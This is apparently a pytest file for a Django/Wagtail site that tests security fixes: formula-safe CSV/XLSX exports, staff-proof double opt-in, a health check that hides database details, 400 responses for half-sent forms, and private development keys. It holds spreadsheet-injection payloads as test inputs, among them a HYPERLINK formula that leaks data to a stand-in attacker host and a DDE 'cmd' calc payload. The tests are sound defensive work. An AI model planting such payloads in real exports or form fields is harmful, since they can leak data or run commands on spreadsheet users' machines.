"""Security hardening of the admin and its neighbours (issue 19): spreadsheet exports that cannot carry a
formula, a sign-up's recorded form address, double opt-in that staff cannot skip, a health check that names
no database detail, a half-sent edit form that answers 400 rather than 500, and a per-checkout development
key. Each is tried through the real stack: admin requests as the role that would make them, a real
database, a fresh interpreter for settings."""

import csv
import io
import logging
import os
import stat
import subprocess

import pytest
from django.db import connections
from django.urls import reverse
from django.utils import timezone
from django.utils.datastructures import MultiValueDictKeyError
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from core.middleware import IncompleteFormMiddleware
from editorial import roles
from newsletter.models import NewsletterIssuePage, Subscriber
from resources.models import ResourcePage
from tests.factories import CaseStudyPageFactory, ResourcePageFactory
from tests.test_newsletter import add_archive, add_issue, issue_form
from tests.test_newsletter import add_url as issue_add_url
from tests.test_page_types import add_url as case_study_add_url
from tests.test_page_types import case_study_form
from tests.test_resources import add_url as resource_add_url
from tests.test_resources import resource_form
from tests.test_settings import PROJECT_DIR, run_python

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
# OWASP's list: a cell starting with any of these may be read as a formula by a spreadsheet program.
DANGEROUS_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def make_subscriber(email, status=Subscriber.Status.CONFIRMED, **fields):
    now = timezone.now()
    defaults = {
        "language": "en",
        "consent_text": "We will email you the newsletter.",
        "consent_given_at": now,
        "consent_source": "/subscriptions/",
        "confirmed_at": now if status == Subscriber.Status.CONFIRMED else None,
    }
    return Subscriber.objects.create(email=email, status=status, **{**defaults, **fields})


def streamed(response):
    return b"".join(response.streaming_content).decode()


def csv_rows(response):
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(streamed(response), newline="")))


@pytest.fixture
def manager(client, role_user):
    client.force_login(role_user(roles.NEWSLETTER_MANAGERS))
    return client


# #4 The form address a sign-up records --------------------------------------------------------------


@pytest.fixture
def archive(home, locales):
    return add_archive(home)


def sign_up(client, source, prefix=""):
    response = client.post(
        f"{prefix}/subscriptions/",
        {"email": "reader@example.org", "language": "en", "website": "", "source": source},
    )
    assert response.status_code == 302, response.status_code
    return Subscriber.objects.get(email="reader@example.org").consent_source


@pytest.mark.parametrize(
    "source",
    [HOSTILE, "+cmd|' /C calc'!A0", "https://evil.example/newsletter/", "/newsletter/?x==1", "/elsewhere/"],
)
@pytest.mark.parametrize("prefix", ["", "/cy"])
def test_a_sign_up_with_a_made_up_source_records_the_form_it_was_posted_to(client, archive, source, prefix):
    assert sign_up(client, source, prefix) == f"{prefix}/subscriptions/"


@pytest.mark.parametrize(
    "source", ["/newsletter/", "/subscriptions/", "/cy/subscriptions/", "/ur/subscriptions/"]
)
def test_a_sign_up_from_one_of_the_sites_own_forms_records_that_form(client, archive, source):
    assert sign_up(client, source) == source


# #4 Spreadsheet exports carry no formula --------------------------------------------------------------


@pytest.fixture
def hostile_subscribers(locales):
    """One subscriber per dangerous first character, in the text fields a visitor's sign-up can fill."""
    return {
        start: make_subscriber(
            f"reader{index}@example.org",
            consent_source=f"{start}source {index}",
            consent_text=f"{start}1+1",
        )
        for index, start in enumerate(DANGEROUS_STARTS)
    }


def test_the_subscriber_csv_export_escapes_every_cell_that_could_be_a_formula(manager, hostile_subscribers):
    rows = csv_rows(manager.get(reverse("subscribers:index"), {"export": "csv"}))
    heading, body = rows[0], rows[1:]
    by_email = {row[heading.index("Email address")]: row for row in body}
    for index, start in enumerate(DANGEROUS_STARTS):
        row = by_email[f"reader{index}@example.org"]
        assert row[heading.index("Form used")] == f"'{start}source {index}"
        assert row[heading.index("Consent wording shown")] == f"'{start}1+1"
    # Nothing else is touched: no cell of a safe row gained a quote.
    assert all(
        not cell.startswith("'")
        for row in body
        for cell in row
        if cell[:2] not in {f"'{c}" for c in DANGEROUS_STARTS}
    )


def test_the_subscriber_xlsx_export_keeps_the_text_as_text(manager, hostile_subscribers):
    response = manager.get(reverse("subscribers:index"), {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows())
    heading = [cell.value for cell in rows[0]]
    texts = {row[heading.index("Consent wording shown")].value: row for row in rows[1:]}
    for start in DANGEROUS_STARTS:
        # XLSX marks a cell's type itself: the value stays exactly as given, as a string, never a formula.
        cell = texts[f"{start}1+1"][heading.index("Consent wording shown")]
        assert cell.data_type == "s"


@pytest.mark.parametrize("role", ["moderator", "superuser"])
def test_a_page_title_starting_with_equals_is_escaped_in_wagtail_reports(
    client, library, role_user, superuser, role
):
    story = CaseStudyPageFactory(parent=library, title=HOSTILE)
    story.save_revision(log_action=True)
    client.force_login(superuser if role == "superuser" else role_user(roles.MODERATORS))
    aging = csv_rows(client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"}))
    assert [row[0] for row in aging[1:] if HOSTILE in row[0]] == ["'" + HOSTILE]
    history = csv_rows(client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"}))
    labels = [
        row[history[0].index("Name")] for row in history[1:] if HOSTILE in row[history[0].index("Name")]
    ]
    assert labels and set(labels) == {"'" + HOSTILE}


# #5 Double opt-in: staff cannot confirm anyone, only unsubscribe them, on the record ------------------


def test_a_manager_cannot_confirm_a_subscriber_through_the_edit_form(manager, locales):
    for status in (Subscriber.Status.PENDING, Subscriber.Status.UNSUBSCRIBED):
        subscriber = make_subscriber(f"{status}@example.org", status=status)
        url = reverse("subscribers:edit", args=[subscriber.pk])
        assert 'name="status"' not in manager.get(url).content.decode()
        response = manager.post(url, {"language": "cy", "status": "confirmed"})
        assert response.status_code == 302, response.content.decode()[:2000]
        subscriber.refresh_from_db()
        assert subscriber.status == status and subscriber.confirmed_at is None
        # The language, which staff may correct, is changed.
        assert subscriber.language == "cy"


def test_a_manager_unsubscribes_someone_after_confirming_and_it_is_recorded(manager, locales):
    subscriber = make_subscriber("leaving@example.org")
    url = reverse("subscribers:unsubscribe", args=[subscriber.pk])
    # The button is on the edit and the inspect views.
    for view in ("edit", "inspect"):
        assert url in manager.get(reverse(f"subscribers:{view}", args=[subscriber.pk])).content.decode()
    # A GET asks first and changes nothing.
    confirm = manager.get(url)
    assert confirm.status_code == 200
    assert 'method="post"' in confirm.content.decode() and "leaving@example.org" in confirm.content.decode()
    subscriber.refresh_from_db()
    assert subscriber.status == Subscriber.Status.CONFIRMED

    before = timezone.now()
    response = manager.post(url)
    assert response.status_code == 302
    subscriber.refresh_from_db()
    manager_user = subscriber.unsubscribed_by
    assert subscriber.status == Subscriber.Status.UNSUBSCRIBED
    assert subscriber.unsubscribed_via == "staff"
    assert manager_user is not None and manager_user.username == "newsletter-managers"
    assert subscriber.unsubscribed_at >= before
    entry = ModelLogEntry.objects.get(action="newsletter.unsubscribe_by_staff")
    assert (entry.object_id, entry.user_id) == (str(subscriber.pk), manager_user.pk)
    # The history and the inspect view show it, and a second press changes nothing more.
    history = manager.get(reverse("subscribers:history", args=[subscriber.pk]))
    assert history.status_code == 200 and "Unsubscribed by staff" in history.content.decode()
    inspect = manager.get(reverse("subscribers:inspect", args=[subscriber.pk])).content.decode()
    assert "newsletter-managers" in inspect
    assert manager.post(url).status_code == 302
    assert ModelLogEntry.objects.filter(action="newsletter.unsubscribe_by_staff").count() == 1


def test_someone_staff_took_off_the_list_who_confirms_again_no_longer_shows_staffs_name(manager, locales):
    """Back on the list by their own confirmation: the record of who took them off goes with the rest."""
    from newsletter import subscriptions

    subscriber = make_subscriber("returning@example.org")
    manager.post(reverse("subscribers:unsubscribe", args=[subscriber.pk]))
    subscriber.refresh_from_db()
    assert subscriber.unsubscribed_by is not None
    Subscriber.objects.filter(pk=subscriber.pk).update(status=Subscriber.Status.PENDING)
    assert subscriptions.confirm(subscriber)
    subscriber.refresh_from_db()
    assert subscriber.status == Subscriber.Status.CONFIRMED
    assert (subscriber.unsubscribed_by, subscriber.unsubscribed_via, subscriber.unsubscribed_at) == (
        None,
        "",
        None,
    )


def test_someone_without_the_change_permission_cannot_unsubscribe_anyone(client, role_user, locales):
    subscriber = make_subscriber("stays@example.org")
    url = reverse("subscribers:unsubscribe", args=[subscriber.pk])
    client.force_login(role_user(roles.EDITORS))
    for response in (client.get(url), client.post(url)):
        assert response.status_code in (302, 403)
    subscriber.refresh_from_db()
    assert subscriber.status == Subscriber.Status.CONFIRMED and subscriber.unsubscribed_by is None


def test_a_manager_with_view_only_cannot_unsubscribe(client, django_user_model, locales):
    from django.contrib.auth.models import Permission

    viewer = django_user_model.objects.create_user("viewer", "viewer@example.org", "a-strong-password-42")
    viewer.user_permissions.add(
        Permission.objects.get(codename="access_admin"), Permission.objects.get(codename="view_subscriber")
    )
    subscriber = make_subscriber("stays@example.org")
    client.force_login(viewer)
    url = reverse("subscribers:unsubscribe", args=[subscriber.pk])
    assert url not in client.get(reverse("subscribers:inspect", args=[subscriber.pk])).content.decode()
    assert client.post(url).status_code in (302, 403)
    subscriber.refresh_from_db()
    assert subscriber.status == Subscriber.Status.CONFIRMED


def test_unsubscribing_an_unknown_subscriber_is_a_404(manager, locales):
    assert manager.post(reverse("subscribers:unsubscribe", args=[999999])).status_code == 404


# #12 /healthz names no database detail ---------------------------------------------------------------


@pytest.fixture
def broken_default_database():
    """Point the default alias at a database that refuses us: a role that does not exist on PostgreSQL (the
    server's answer names host, port and role), a file that cannot be opened on SQLite."""
    real = connections["default"]
    settings_dict = {**real.settings_dict}
    if real.vendor == "postgresql":
        settings_dict.update({"USER": "hls_no_such_role", "NAME": "hls_no_such_db", "PASSWORD": ""})
        secrets = [
            settings_dict["HOST"] or "localhost",
            str(settings_dict["PORT"] or 5432),
            "hls_no_such_role",
        ]
    else:
        settings_dict["NAME"] = "/nonexistent-hls-directory/db.sqlite3"
        secrets = ["/nonexistent-hls-directory"]
    broken = type(real)(settings_dict, alias="default")
    connections["default"] = broken
    try:
        yield secrets
    finally:
        connections["default"] = real
        broken.close()


def test_healthz_answers_a_generic_message_and_logs_the_detail(client, broken_default_database, caplog):
    with caplog.at_level(logging.WARNING, logger="core.health"):
        response = client.get("/healthz")
    assert response.status_code == 503
    assert response.json()["status"] == "unavailable" and response.json()["database"] == "unavailable"
    body = response.content.decode()
    for secret in broken_default_database:
        assert secret not in body
    logged = "\n".join(record.getMessage() for record in caplog.records if record.name == "core.health")
    assert "OperationalError" in logged
    if connections["default"].vendor == "postgresql":
        for secret in broken_default_database:
            assert secret in logged


# #14 A half-sent edit form answers 400 ---------------------------------------------------------------


def without_body_count(data):
    data = dict(data)
    del data["body-count"]
    return data


@pytest.fixture
def editor(client, role_user):
    client.force_login(role_user(roles.EDITORS))
    return client


def assert_bad_request(response):
    assert response.status_code == 400, response.status_code
    text = response.content.decode()
    assert "body-count" in text and "incomplete" in text


def test_a_case_study_form_without_its_block_count_is_a_400(editor, library, terms):
    assert_bad_request(
        editor.post(case_study_add_url(library), without_body_count(case_study_form(terms, [])))
    )
    story = CaseStudyPageFactory(parent=library, title="Listening first")
    edit = reverse("wagtailadmin_pages:edit", args=[story.pk])
    assert_bad_request(editor.post(edit, without_body_count(case_study_form(terms, [], slug=story.slug))))


def test_a_resource_form_without_its_block_count_is_a_400(editor, resource_library, themes):
    from core.models import Organisation

    author = Organisation.objects.create(name="Lighthouse Trust", slug="lighthouse")
    data = resource_form(author, list(themes.values()))
    assert_bad_request(editor.post(resource_add_url(resource_library), without_body_count(data)))
    resource = ResourcePageFactory(parent=resource_library)
    edit = reverse("wagtailadmin_pages:edit", args=[resource.pk])
    assert_bad_request(editor.post(edit, without_body_count({**data, "slug": resource.slug})))
    assert ResourcePage.objects.count() == 1


def test_a_newsletter_issue_form_without_its_block_count_is_a_400(editor, archive):
    assert_bad_request(editor.post(issue_add_url(archive), without_body_count(issue_form(7))))
    issue = add_issue(archive, 3, publish=False)
    edit = reverse("wagtailadmin_pages:edit", args=[issue.pk])
    assert_bad_request(editor.post(edit, without_body_count(issue_form(3))))
    assert NewsletterIssuePage.objects.count() == 1


def test_an_autosave_without_its_block_count_gets_a_json_400(editor, archive):
    issue = add_issue(archive, 4, publish=False)
    edit = reverse("wagtailadmin_pages:edit", args=[issue.pk])
    response = editor.post(edit, without_body_count(issue_form(4)), HTTP_ACCEPT="application/json")
    assert response.status_code == 400
    assert response.json()["success"] is False and "body-count" in response.json()["error_message"]


def test_a_key_error_the_client_did_not_cause_is_still_an_error(rf):
    """Only a key missing from what the client sent is the client's fault; anything else stays a 500."""
    middleware = IncompleteFormMiddleware(lambda request: None)
    request = rf.post("/admin/pages/1/edit/", {"body-count": "0"})
    assert middleware.process_exception(request, MultiValueDictKeyError("body-count")) is None
    assert middleware.process_exception(request, KeyError("body-count")) is None
    assert middleware.process_exception(request, MultiValueDictKeyError("title")).status_code == 400


# A development key of its own for each checkout -------------------------------------------------------

OLD_DEV_KEY = "dev-only-insecure-key-do-not-use-in-production"
READ_DEV_KEY = "import site_config.settings.dev as s; print(s.SECRET_KEY)"


def test_development_makes_a_key_of_its_own_keeps_it_private_and_reuses_it(tmp_path):
    key_file = tmp_path / "checkout" / ".secret-key"
    key_file.parent.mkdir()
    first = run_python(READ_DEV_KEY, SECRET_KEY_FILE=str(key_file))
    assert first.returncode == 0, first.stderr
    second = run_python(READ_DEV_KEY, SECRET_KEY_FILE=str(key_file))
    assert second.returncode == 0, second.stderr
    key = first.stdout.strip().splitlines()[-1]
    assert key == second.stdout.strip().splitlines()[-1]
    assert key != OLD_DEV_KEY and len(key) >= 50
    assert key_file.read_text().strip() == key
    assert stat.S_IMODE(os.stat(key_file).st_mode) == 0o600
    # Only the key file is left behind.
    assert [path.name for path in key_file.parent.iterdir()] == [".secret-key"]


def test_a_secret_key_from_the_environment_wins_and_writes_no_file(tmp_path):
    key_file = tmp_path / ".secret-key"
    result = run_python(
        READ_DEV_KEY, SECRET_KEY="from-the-environment-" + "x" * 40, SECRET_KEY_FILE=str(key_file)
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip().endswith("from-the-environment-" + "x" * 40)
    assert not key_file.exists()


def test_the_key_file_is_ignored_by_git_and_removed_by_make_clean():
    for name in (".secret-key", ".secret-key.4242.new"):
        assert subprocess.run(["git", "check-ignore", "-q", name], cwd=PROJECT_DIR).returncode == 0, name
    makefile = (PROJECT_DIR / "Makefile").read_text().split("\nclean:", 1)[1].splitlines()
    assert ".secret-key" in makefile[1].split()
